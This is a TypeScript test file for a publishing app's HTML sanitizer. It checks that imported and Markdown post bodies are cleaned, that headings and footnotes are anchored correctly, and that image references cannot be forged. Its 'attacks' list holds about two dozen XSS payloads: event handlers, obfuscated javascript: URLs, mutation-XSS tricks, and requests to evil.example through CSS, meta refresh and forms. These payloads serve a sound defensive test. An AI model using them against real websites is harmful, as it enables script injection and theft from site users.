import { createHash } from "node:crypto";
import { describe, expect, test } from "vitest";
import type { FileToPublish } from "#server/domains/media/index.ts";
import { cleanHtml, convertText } from "#server/domains/post-markdown/index.ts";
import { markdownToHtml } from "#server/domains/post-markdown/markdown-to-html.ts";
import { bodyToStore } from "#server/domains/posts/body-to-store.ts";
import { bodyImageId } from "#server/domains/posts/place-files.ts";
import { renderBody } from "#server/domains/posts/render-body.ts";
import { storedHtml } from "#server/testing/stored-html.ts";
import { placeImages } from "./index.ts";
import { sanitizeStoredBody } from "./sanitize-body.ts";

const postId = "0a0b0c0d-0000-4000-8000-000000000002";
const fileOf = (name: string): FileToPublish => ({
  ...{ name, mime: "image/png", storageKey: createHash("sha256").update(name).digest("hex") },
  ...{ sizeBytes: 1, picture: undefined, alternativeText: null },
});
const known = fileOf("known.png");
const id = bodyImageId(postId, "PAID", known);
const clean = (html: string) => storedHtml(html, { images: { "known.png": id } });

/** HTML as an import publishes it. */
async function imported(html: string): Promise<string> {
  const body = await cleanHtml({ html, images: ["known.png"], links: new Map() });
  return bodyToStore({ body, images: new Map([["known.png", known]]) }, postId, "PAID");
}

/** A Markdown text as the studio publishes it if the draft has a file for each of its pictures, by its source. */
async function published(text: string, fileFor: (source: string) => FileToPublish = () => known): Promise<string> {
  const { body } = await convertText({ text, title: "", language: "English" });
  const images = new Map(body.images.map((source) => [source, fileFor(source)]));
  return bodyToStore({ body, images }, postId, "PAID");
}

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=known.png onerror=alert(1) style=x srcset='//evil.example/x 1x'>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
  "<iframe src='https://evil.example'></iframe><object data=x></object><embed src=x>",
  "<a href='javascript:alert(1)'>x</a><a href='JaVaScRiPt:alert(1)'>x</a><a href='java\tscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a><a href=' javascript:alert(1)'>x</a><a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href='vbscript:x'>x</a><a href='//evil.example'>x</a>",
  "<a href='https://x.example' onclick=alert(1) target=_blank style='position:fixed'>x</a>",
  "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example><base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'><form action=//evil.example><input name=code><button>x</button></form>",
  "<p style='background:url(//evil.example)' class=banner id=root>x</p>",
  "<h2 id='root' onclick=x>x</h2><h1 id='__proto__'>x</h1>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
  "<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>",
  "<<script>script>alert(1)<</script>/script>",
  "<img alt='\"><script>alert(1)</script>' src=known.png>",
  "<img alt=\"x' onerror='alert(1)\" src=known.png>",
  `<img data-media-id="${id}" src=x>`,
  "<video src=//evil.example autoplay></video><audio src=x onerror=alert(1)></audio><source src=x>",
  "<details ontoggle=alert(1) open>x</details><body onload=alert(1)><input autofocus onfocus=alert(1)>",
  "<code class='language-js evil'>x</code><code class=x>y</code>",
  "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?xml <script>alert(1)</script>?>",
  "<table background='javascript:alert(1)'><td background=x>y</td></table>",
  "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
];

/** The HTML as a browser parses it: its tags with their attributes, without descriptions and where cards lead. */
function tagsOf(html: string): string[] {
  return (html.match(/<[a-z][^>]*>/gi) ?? []).map((tag) =>
    tag.startsWith("<img")
      ? tag.replace(/alt="[^"<>]*"/, 'alt=""')
      : tag.replace(/^<a class="embed" href="https:[^"<>]*"/, "<a"),
  );
}

describe("a body", () => {
  test.each(attacks.flatMap((attack) => [attack, `text **bold** ${attack}\n\n${attack}`]))(
    "is harmless: %s",
    async (attack) => {
      const markdown = markdownToHtml(attack, "English");
      for (const html of [await imported(attack), await imported(markdown), await published(attack)]) {
        for (const tag of tagsOf(html)) {
          expect(tag).not.toMatch(
            /\son\w+\s*=\s*|\sstyle=|javascript:|vbscript:|data:(?!-)|\ssrc=|srcset|evil|target=/i,
          );
          expect(tag).toMatch(
            /^<(h[234]|p|br|hr|[uo]l|li|d[ltd]|blockquote|pre|code|em|strong|a|span|img|figure|figcaption|details|summary|table|t[dhr]|tbody|thead)[\s/>]/,
          );
          if (tag.startsWith("<img")) expect(tag).toMatch(new RegExp(`^<img data-media-id="${id}" alt="[^"<>]*" />$`));
        }
        const read = sanitizeStoredBody(html);
        expect(read).toBe(html);
        expect(renderBody(read, [], () => "")).not.toContain("<img");
      }
    },
  );

  test("has its headings where GitHub's links look for them", () => {
    const html = clean(
      markdownToHtml(
        "## Request/Reply\n\n## What's `new` in v2.0?\n\n## Año nuevo_1\n\n## Notes\n\n## Notes\n\n## Notes-1\n\n" +
          "[a](#requestreply) [b](#whats-new-in-v20) [c](#año-nuevo_1) [d](#a%C3%B1o-nuevo_1) [e](#notes-1) [f](#100%)",
        "English",
      ),
    );
    const ids = [...html.matchAll(/ id="text-([^"]+)"/g)].map(([, id]) => id);
    expect(ids).toEqual(["requestreply", "whats-new-in-v20", "año-nuevo_1", "notes", "notes-1", "notes-1-1"]);
    const links = [...html.matchAll(/href="#text-([^"]+)"/g)].map(([, anchor]) => anchor);
    expect(links).toEqual(["requestreply", "whats-new-in-v20", "año-nuevo_1", "año-nuevo_1", "notes-1", "100"]);
    expect(sanitizeStoredBody(html)).toBe(html);
  });

  test("has its footnotes at the end, in its language, and ways to them and back", () => {
    const markdown =
      "Uno[^1], dos[^año y más] y otra vez[^1].\n\n[^1]: Con *acento*.\n[^año y más]: Y `código`.\n\nFin, [^nada].";
    const html = clean(markdownToHtml(markdown, "Spanish"));
    expect(html.indexOf("<h2")).toBeGreaterThan(html.indexOf("Fin, [^nada]."));
    expect(html).toMatch(
      /<h2 id="text-note-label">Notas<\/h2>\s*<ol>\s*<li id="text-note-1">\s*<p>Con <em>acento<\/em>\./,
    );
    expect(html).toContain('aria-label="Volver a la nota 1 en el texto"');
    const ids = new Set([...html.matchAll(/ id="([^"]+)"/g)].map(([, anchor]) => anchor));
    const targets = [...html.matchAll(/href="#([^"]+)"/g)].map(([, anchor]) => anchor);
    expect(targets).toHaveLength(6);
    expect(targets.filter((target) => !ids.has(target))).toEqual([]);
    expect(sanitizeStoredBody(html)).toBe(html);
  });

  test("can be scrolled with keys where it may be wider than its column", () => {
    const html = renderBody(clean(markdownToHtml("    code\n\n| a |\n|---|\n| 1 |", "English")), [], () => "");
    expect(html).toContain('<pre tabindex="0"><code>');
    expect(html).toContain('<table tabindex="0">');
  });

  test("shows only the files that its post has for its pictures, whatever their sources and descriptions say", async () => {
    const other = "0a0b0c0d-0000-4000-8000-000000000003";
    const sources = [`a'b.png`, "$&$1$`.png", `0`, `data-media-id=1`, `" data-media-id="${other}`];
    const tags = sources.map((source) => {
      const escaped = source.replaceAll('"', "&quot;");
      return `<img src="${escaped}" alt="$&amp;$1 &lt;img data-media-id=&quot;0&quot; alt=&quot;&quot; /&gt;" data-media-id="${other}">`;
    });
    const forged = [
      `<img data-media-id="0" alt="">`,
      `&lt;img data-media-id="0" alt="" />`,
      `<a href="https://x.example" title='<img data-media-id="1" alt="" />'>x</a>`,
      '`<img data-media-id="0" alt="" />`',
    ];
    const html = await published([...tags, ...forged].join("\n\n"), fileOf);
    const ids = [...html.matchAll(/<img data-media-id="([^"]*)" alt="([^"<>]*)" \/>/g)].map(([, id, alt]) => ({
      id,
      alt,
    }));
    expect(ids).toEqual(
      sources.map((source) => ({
        id: bodyImageId(postId, "PAID", fileOf(source)),
        alt: "$&amp;$1 &lt;img data-media-id=&quot;0&quot; alt=&quot;&quot; /&gt;",
      })),
    );
    expect(html.match(/<img/g)).toHaveLength(sources.length);
    expect(html).not.toContain(other);
    expect(sanitizeStoredBody(html)).toBe(html);
  });

  test("is refused if its post has no file for one of its pictures, or an invalid id", async () => {
    const { body } = await convertText({ text: "![A](a.png)", title: "", language: "English" });
    expect(() => bodyToStore({ body, images: new Map() }, postId, "PAID")).toThrow("no file");
    for (const id of ["0", '" onerror="x', "$&"]) expect(() => placeImages(body, () => id)).toThrow("no file");
  });

  test("keeps what a text is made of", () => {
    const html = clean(
      markdownToHtml(
        "# One\n\n## Two & more\n\n##### Deep\n\n1. a\n2. *b* `c` ~~d~~\n\n> q\n\n| a | b |\n|:-:|---|\n| 1 | 2 |\n\n```js\nlet x = '<b>';\n```\n\n" +
          '[out](https://x.example "t") [in](#two--more) [mail](mailto:a@b.example) [beside](other.md)\n\n![Alt "q" <b>](known.png "A caption")\n\n![gone](https://x.example/a.png)\n\n<kbd>K</kbd><sup>2</sup>',
        "English",
      ),
    );
    for (const part of [
      '<h2 id="text-one">One</h2>',
      '<h2 id="text-two--more">Two &amp; more</h2>',
      '<h4 id="text-deep">Deep</h4>',
      "<em>b</em> <code>c</code> <del>d</del>",
      '<th align="center">a</th>',
      `<code class="language-js">let x = '&lt;b&gt;';`,
      '<a href="https://x.example" title="t" rel="noopener nofollow ugc">out</a>',
      '<a href="#text-two--more" rel="noopener nofollow ugc">in</a>',
      '<a href="mailto:a@b.example"',
      "<span>beside</span>",
      `<figure><img data-media-id="${id}" alt="Alt &quot;q&quot; &lt;b&gt;" /><figcaption>A caption</figcaption></figure>`,
      "<kbd>K</kbd><sup>2</sup>",
    ]) {
      expect(html).toContain(part);
    }
    expect(html).not.toContain("a.png");
    expect(html.match(/<figure>/g)).toHaveLength(1);
  });
});
